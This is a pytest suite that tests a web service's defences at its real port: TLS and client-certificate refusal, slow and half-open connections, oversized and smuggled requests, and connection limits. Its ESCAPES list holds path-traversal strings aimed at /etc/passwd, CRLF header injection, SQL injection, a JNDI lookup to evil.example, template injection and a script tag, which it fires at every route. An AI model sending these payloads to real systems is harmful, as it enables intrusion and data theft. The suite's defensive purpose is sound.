"""Strangers at the real port: by TLS and without, slow, large, malformed, many; each is refused, and written down."""

from __future__ import annotations

import datetime
import json
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import trustme
from fastapi import FastAPI, Request
from fastapi.responses import StreamingResponse

from service.api import bodies, server
from service.api.app import create_app
from service.api.doors import Operator
from service.audit import Alert
from service.errors import ConfigError
from tests.http_side import TOKENS, Alerts, config_of, record_alerts, seen_of, serving

GET = b"GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n"

CLOSING = GET + b"Connection: close\r\n"


def _bearer(role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKENS[role]}"}


@pytest.fixture
def alerts(monkeypatch: pytest.MonkeyPatch) -> Alerts:
    return record_alerts(monkeypatch)


@pytest.fixture
def port(tmp_path: Path, alerts: Alerts) -> Iterator[int]:
    """The HTTP side without TLS, with two routes of a known slowness."""
    with seen_of(config_of(tmp_path, requests_per_minute=100_000)) as seen:
        app = create_app(seen)
        _add_routes(app)
        with serving(seen, app) as number:
            yield number


def _add_routes(app: FastAPI) -> None:
    @app.post("/body")
    async def body(request: Request) -> int:
        return sum([len(chunk) async for chunk in request.stream()])

    @app.post("/unread")
    def unread(caller: Operator) -> None:
        return None

    @app.get("/endless")
    async def endless() -> StreamingResponse:
        async def pieces() -> Any:
            while True:
                yield bytes(1 << 16)

        return StreamingResponse(pieces())


@contextmanager
def connected(port: int) -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", port), timeout=20) as line:
        yield line


def all_of(line: socket.socket) -> bytes:
    """What is answered until the other side hangs up."""
    answer = b""
    try:
        while piece := line.recv(1 << 16):
            answer += piece
    except ConnectionResetError:
        pass
    return answer


def _problem(answer: bytes) -> dict[str, Any]:
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"content-type: application/problem+json" in head.lower()
    for name in (b"content-security-policy", b"x-content-type-options", b"cache-control"):
        assert name in head.lower()
    assert b"\r\nserver:" not in head.lower()
    found: dict[str, Any] = json.loads(body)
    return found


def _until(there: Callable[[], object], what: str) -> None:
    last = time.monotonic() + 20
    while not there():
        assert time.monotonic() < last, f"never came: {what}"
        time.sleep(0.02)


# --- TLS --------------------------------------------------------------------------------------------------------------


class Site:
    """A site's authority and certificates, and the HTTP side behind TLS."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.authority = folder, trustme.CA()
        self.authority.cert_pem.write_to_path(str(folder / "ca.pem"))
        self.renew()

    def renew(self) -> bytes:
        """A new certificate for the service, in the place of the one before."""
        made = self.authority.issue_cert("127.0.0.1")
        new = self.folder / "new.pem"
        made.private_key_and_cert_chain_pem.write_to_path(str(new))
        new.replace(self.folder / "server.pem")
        return ssl.PEM_cert_to_DER_cert(made.cert_chain_pems[0].bytes().decode())

    def config(self, *, mutual: bool = False) -> Any:
        pem = self.folder / "server.pem"
        tls = {"certificate_file": pem, "key_file": pem, **({"ca_file": self.folder / "ca.pem"} if mutual else {})}
        return config_of(self.folder, tls=tls)

    def trusting(self) -> ssl.SSLContext:
        context = ssl.create_default_context()
        self.authority.configure_trust(context)
        return context


@pytest.fixture
def site(tmp_path: Path, alerts: Alerts) -> Site:
    return Site(tmp_path)


def test_by_tls_it_is_the_same_and_browsers_are_to_keep_to_it(site: Site, alerts: Alerts) -> None:
    with seen_of(site.config()) as seen, serving(seen) as port:
        url = f"https://127.0.0.1:{port}"
        with httpx.Client(base_url=url, verify=site.trusting(), trust_env=False) as client:
            for _ in range(3):  # on one connection
                answer = client.get("/health/live")
                assert answer.json() == {"status": "live"}
            assert answer.headers["strict-transport-security"] == "max-age=31536000"
            signed = client.post("/signin", data={"token": TOKENS["viewer"]}, headers={"Origin": url})
            assert signed.headers["set-cookie"].startswith("__Host-overread=")
            assert client.get("/api/v1/studies").json() == []
    assert not alerts.of(Alert.NODE_AUTHENTICATION)


def test_who_speaks_plainly_to_a_tls_port_is_refused(site: Site, alerts: Alerts) -> None:
    with seen_of(site.config()) as seen, serving(seen) as port:
        with connected(port) as line:
            line.sendall(GET + b"\r\n")
            assert b"HTTP/1.1" not in all_of(line)
        _until(lambda: alerts, "the alert")
        assert alerts == [
            {
                "kind": Alert.NODE_AUTHENTICATION,
                "words": "TLS on the HTTP port: refused, it speaks HTTP",
                "address": "127.0.0.1",
            }
        ]
        assert httpx.get(f"https://127.0.0.1:{port}/health/live", verify=site.trusting(), trust_env=False).is_success


def test_old_tls_is_refused(site: Site, alerts: Alerts) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1
    context.maximum_version = ssl.TLSVersion.TLSv1_1
    context.set_ciphers("ALL:@SECLEVEL=0")
    with seen_of(site.config()) as seen, serving(seen) as port, connected(port) as line:
        with pytest.raises(OSError, match=r"."):
            context.wrap_socket(line)
        _until(lambda: alerts.of(Alert.NODE_AUTHENTICATION), "the alert")


def test_a_port_that_is_only_probed_costs_nothing(site: Site, alerts: Alerts) -> None:
    with seen_of(site.config()) as seen, serving(seen) as port:
        for _ in range(20):
            with connected(port):
                pass
        assert httpx.get(f"https://127.0.0.1:{port}/health/live", verify=site.trusting(), trust_env=False).is_success
    assert not alerts


def _yesterday() -> datetime.datetime:
    return datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1)


@pytest.mark.parametrize("who", ["nobody", "self-signed", "of another authority", "expired", "ours"])
def test_where_certificates_are_wanted_only_ours_come_in(who: str, site: Site, alerts: Alerts) -> None:
    authority = trustme.CA() if who == "of another authority" else site.authority
    with seen_of(site.config(mutual=True)) as seen, serving(seen) as port:
        context = site.trusting()
        if who == "self-signed":
            context.load_cert_chain(_self_signed(site.folder))
        elif who != "nobody":
            own = authority.issue_cert("client", not_after=_yesterday() if who == "expired" else None)
            own.configure_cert(context)
        if who == "ours":
            answer = httpx.get(f"https://127.0.0.1:{port}/health/live", verify=context, trust_env=False)
            assert answer.json() == {"status": "live"}
            assert not alerts
            return
        with pytest.raises((httpx.HTTPError, OSError), match=r"."):
            httpx.get(f"https://127.0.0.1:{port}/health/live", verify=context, trust_env=False)
        _until(lambda: alerts.of(Alert.NODE_AUTHENTICATION), "the alert")
        (words,) = alerts.of(Alert.NODE_AUTHENTICATION)
        said = {"nobody": "no certificate", "self-signed": "self-signed", "expired": "expired"}.get(who, "authority")
        assert said in words


def _self_signed(folder: Path) -> Path:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key, now = ec.generate_private_key(ec.SECP256R1()), datetime.datetime.now(datetime.UTC)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "client")])
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
    signed = made.not_valid_before(now).not_valid_after(now + datetime.timedelta(1)).sign(key, hashes.SHA256())
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ) + signed.public_bytes(serialization.Encoding.PEM)
    (folder / "self.pem").write_bytes(pem)
    return folder / "self.pem"


def test_a_renewed_certificate_counts_without_a_stop(site: Site) -> None:
    def shown(port: int) -> bytes:
        with connected(port) as line, site.trusting().wrap_socket(line, server_hostname="127.0.0.1") as secured:
            secured.sendall(GET + b"Connection: close\r\n\r\n")
            assert b"200 OK" in all_of(secured)
            return secured.getpeercert(binary_form=True) or b""

    with seen_of(site.config()) as seen, serving(seen) as port:
        before = shown(port)
        with connected(port) as line, site.trusting().wrap_socket(line, server_hostname="127.0.0.1") as old:
            after = site.renew()
            assert before != after
            assert shown(port) == after
            old.sendall(GET + b"Connection: close\r\n\r\n")
            assert b"200 OK" in all_of(old), "who is connected stays so"


def test_without_its_certificate_there_is_no_start(site: Site) -> None:
    (site.folder / "server.pem").unlink()
    with (
        seen_of(site.config()) as seen,
        pytest.raises(ConfigError, match=r"server\.pem"),
    ):
        server.make_server(create_app(seen), seen.config.api)


# --- Slow, large, malformed, many -------------------------------------------------------------------------------------


def test_a_head_that_never_ends_is_ended(port: int, alerts: Alerts, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_HEAD_SECONDS", 1.0)
    with connected(port) as line:
        begun = time.monotonic()
        try:
            for _ in range(200):  # a byte at a time, for ever
                line.sendall(b"GET"[:1] if time.monotonic() == begun else b"x")
                time.sleep(0.1)
        except OSError:
            pass
        answer = all_of(line)
    assert answer.startswith(b"HTTP/1.1 408")
    assert _problem(answer)["found"] == "a request whose head does not end"
    assert alerts.of(Alert.RESTRICTED_FUNCTION) == ["a request whose head does not end: refused"]


def test_a_second_head_on_a_connection_has_its_own_time(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_HEAD_SECONDS", 1.0)
    with connected(port) as line:
        for _ in range(3):
            line.sendall(GET)
            time.sleep(0.6)
            line.sendall(b"\r\n")
            answer = b""
            while not answer.endswith(b"}"):
                answer += line.recv(1 << 16)
            assert answer.startswith(b"HTTP/1.1 200")


def test_two_hundred_half_open_connections_keep_nobody_out(
    port: int, alerts: Alerts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "_HEAD_SECONDS", 3.0)
    with ExitStack() as stack:
        lines = [stack.enter_context(connected(port)) for _ in range(200)]
        for line in lines[:100]:
            line.sendall(b"GET / HTTP/1.1\r\n")
        for _ in range(20):
            assert httpx.get(f"http://127.0.0.1:{port}/health/live", trust_env=False).json() == {"status": "live"}
        answers = [all_of(line) for line in lines]  # each is ended by itself
    assert [answer[:12] for answer in answers] == [b"HTTP/1.1 408"] * 100 + [b""] * 100
    assert len(alerts) == 100, "who says nothing, a probe or a browser beforehand, is no danger"


def test_a_body_that_stalls_is_ended(tmp_path: Path, alerts: Alerts, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bodies.Bodies.__init__, "__kwdefaults__", {"stall_seconds": 0.5})
    with seen_of(config_of(tmp_path)) as seen:
        app = create_app(seen)
        _add_routes(app)
        with serving(seen, app) as port, connected(port) as line:
            line.sendall(b"POST /body HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\n\r\nabc")
            answer = all_of(line)
    assert answer.startswith(b"HTTP/1.1 408")
    assert "stalls" in _problem(answer)["found"]
    assert alerts.of(Alert.RESTRICTED_FUNCTION) == ["a body that stalls or trickles: refused"]


def test_a_body_that_nobody_reads_does_not_go_on_for_ever(
    port: int, alerts: Alerts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "_HEAD_SECONDS", 1.0)
    with connected(port) as line:
        line.sendall(b"POST /unread HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
        last, gone = time.monotonic() + 15, False
        while not gone and time.monotonic() < last:
            try:
                line.sendall(b"10\r\n" + bytes(16) + b"\r\n")
                time.sleep(0.05)
            except OSError:
                gone = True
    assert gone
    assert alerts.of(Alert.USER_AUTHENTICATION) == ["POST /unread: refused, nothing says who asks"]


def test_an_answer_that_nobody_takes_is_given_up(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_TAKEN_SECONDS", 1.0)
    with connected(port) as line:
        line.sendall(b"GET /endless HTTP/1.1\r\nHost: h\r\n\r\n")
        time.sleep(2.5)
        received, ended = 0, False
        while not ended and received < 1 << 26:
            try:
                piece = line.recv(1 << 20)
            except ConnectionResetError:
                piece = b""
            received, ended = received + len(piece), not piece
    assert ended, "more came than buffers hold"
    assert received > 0


@pytest.mark.parametrize(
    ("sent", "status"),
    [
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500) + b"\r\n\r\n", 400),  # TLS where none is spoken
        (b"A-ASSOCIATE-RQ\r\n\r\n", 400),
        (b"GET / HTTP/1.1\r\n\r\n", 400),  # without Host
        (GET + b"X: a\rSet-Cookie: b=c\r\n\r\n", 400),
        (
            CLOSING + b"X: a\nSet-Cookie: b=c\r\n\r\n",
            200,
        ),  # a bare LF ends a line: two headers, and neither is repeated
        (GET + b"X: a\x00b\r\n\r\n", 400),
        (GET + b"X : a\r\n\r\n", 400),
        (GET + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n", 400),
        (
            GET + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            200,
        ),  # RFC 9112 6.3: chunked counts
        (GET + b"Transfer-Encoding: gzip\r\n\r\n", 400),
        (GET.replace(b"/health/live", b"/health/live\r\nX: y") + b"\r\n", 400),
        (GET + b"X: " + b"a" * 70_000 + b"\r\n\r\n", 0),
        (GET + b"".join(b"X%d: a\r\n" % number for number in range(150)) + b"\r\n", 431),
        (b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: h\r\n\r\n", 0),
        (b"POST /body HTTP/1.1\r\nHost: h\r\nContent-Length: 2000000\r\nConnection: close\r\n\r\n", 413),
        (CLOSING.replace(b"GET /health/live", b"POST /body") + b"Content-Length: 99999999999999999999\r\n\r\n", 413),
        (b"POST /body HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\nnonsense\r\n", 400),
    ],
)
def test_what_is_no_request_is_refused(
    sent: bytes, status: int, port: int, alerts: Alerts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "_HEAD_SECONDS", 1.0)
    with connected(port) as line:
        line.sendall(sent)
        answer = all_of(line)
    got = int(answer[9:12])
    assert got == status or (not status and got in (400, 431)), answer[:200]
    assert b"set-cookie" not in answer.lower()
    if got != 200:
        assert _problem(answer)["status"] == got
        assert len(alerts.of(Alert.RESTRICTED_FUNCTION)) == 1
        assert {alert["address"] for alert in alerts} == {"127.0.0.1"}


def test_a_body_too_large_in_pieces_is_ended_while_it_comes(port: int, alerts: Alerts) -> None:
    def pieces() -> Iterator[bytes]:
        for _ in range(1 << 10):
            yield bytes(1 << 14)

    answer = httpx.post(f"http://127.0.0.1:{port}/body", content=pieces(), trust_env=False)
    assert answer.status_code == 413
    assert alerts.of(Alert.RESTRICTED_FUNCTION) == ["a body of more than 1 MiB: refused"]


def test_nobody_takes_all_connections(port: int, alerts: Alerts, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_MOST_OF_ONE", 10)
    with ExitStack() as stack:
        for _ in range(10):
            stack.enter_context(connected(port)).sendall(b"G")
        with connected(port) as one_more:
            one_more.settimeout(20)
            assert all_of(one_more) == b""
        assert alerts.of(Alert.RESTRICTED_FUNCTION) == ["more connections than are kept: refused"]
    _until(lambda: _lives(port), "room again")


def _lives(port: int) -> bool:
    try:
        return httpx.get(f"http://127.0.0.1:{port}/health/live", trust_env=False).is_success
    except httpx.TransportError:
        return False


# --- Every route ------------------------------------------------------------------------------------------------------

ESCAPES = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/canary",
    "..\\..\\canary",
    "/etc/passwd",
    "....//....//canary",
    "canary",
    "../canary",
    "../session.key",
    "file:///etc/passwd",
    "%00",
    "a%00.png",
    "%0d%0aSet-Cookie:%20a=b",
    "\u2025/\u2025/canary",
    "'; DROP TABLE studies; --",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "a" * 5000,
)
CANARY = "nobody-may-read-this"


@contextmanager
def described(port: int) -> Iterator[tuple[httpx.Client, dict[str, Any]]]:
    with httpx.Client(base_url=f"http://127.0.0.1:{port}", headers=_bearer("admin"), trust_env=False) as client:
        yield client, client.get("/openapi.json").json()["paths"]


def test_no_parameter_of_any_route_leads_out_of_where_it_belongs(port: int, tmp_path: Path) -> None:
    (tmp_path / "canary").write_text(CANARY)
    (tmp_path / "evidence").mkdir(exist_ok=True)
    tried = 0
    with described(port) as (_, paths):
        for path, methods in paths.items():
            for method, about in methods.items():
                parameters = about.get("parameters", [])
                for escape in ESCAPES:
                    for escaped in {escape, quote(escape, safe=""), quote(quote(escape, safe=""), safe="")}:
                        for parameter in parameters:
                            where = {it["name"]: "1.2.3" for it in parameters if it["in"] == "path"}
                            query = ""
                            if parameter["in"] == "path":
                                where[parameter["name"]] = escaped
                            else:
                                query = f"?{parameter['name']}={escaped}"
                            answer = _raw(port, method.upper(), path.format(**where) + query)
                            tried += 1
                            head = answer.partition(b"\r\n\r\n")[0].lower()
                            status = int(answer[9:12])
                            assert status < 500 or status == 503, (method, path, parameter["name"], escaped)
                            assert CANARY.encode() not in answer
                            assert b"root:" not in answer
                            assert b"\nset-cookie" not in head, "a line of its own, not a part of a link"
                            assert b"<script" not in answer
    assert tried > 300


def _raw(port: int, method: str, target: str) -> bytes:
    """Ask for a target as it is: a client's library would tidy it up."""
    sent = "".join(sign if "!" <= sign <= "~" else quote(sign) for sign in target)
    with connected(port) as line:
        line.sendall(
            f"{method} {sent} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: 0\r\n"
            f"Authorization: Bearer {TOKENS['admin']}\r\n\r\n".encode()
        )
        answer = b""
        while piece := line.recv(1 << 16):
            answer += piece
            if b"text/event-stream" in answer.partition(b"\r\n\r\n")[0]:
                break  # it goes on for as long as one listens
        return answer


def test_a_viewer_s_token_decides_nothing_on_any_route(port: int, alerts: Alerts) -> None:
    tried = 0
    with described(port) as (client, paths):
        for path, methods in paths.items():
            for method in set(methods) - {"get", "head"}:
                if path == "/body":  # the test's own
                    continue
                address = path.replace("{", "").replace("}", "")
                answer = client.request(method, address, headers=_bearer("viewer"), json={"destination": "pacs"})
                assert answer.status_code == 403, (method, path)
                assert alerts.pop()["words"] == f"{method.upper()} {path}: refused, a viewer is no operator"
                tried += 1
    assert tried >= 3


def test_no_route_breaks_or_answers_without_the_strict_headers(port: int) -> None:
    with described(port) as (client, paths):
        for path, methods in paths.items():
            for method in methods:
                if path == "/endless":
                    continue
                with client.stream(method, path.replace("{", "").replace("}", ""), json={}) as answer:
                    assert answer.status_code in (*range(200, 500), 503), (method, path)
                    assert "default-src 'none'" in answer.headers["content-security-policy"]
                    assert answer.headers["x-content-type-options"] == "nosniff"
                    assert "server" not in answer.headers
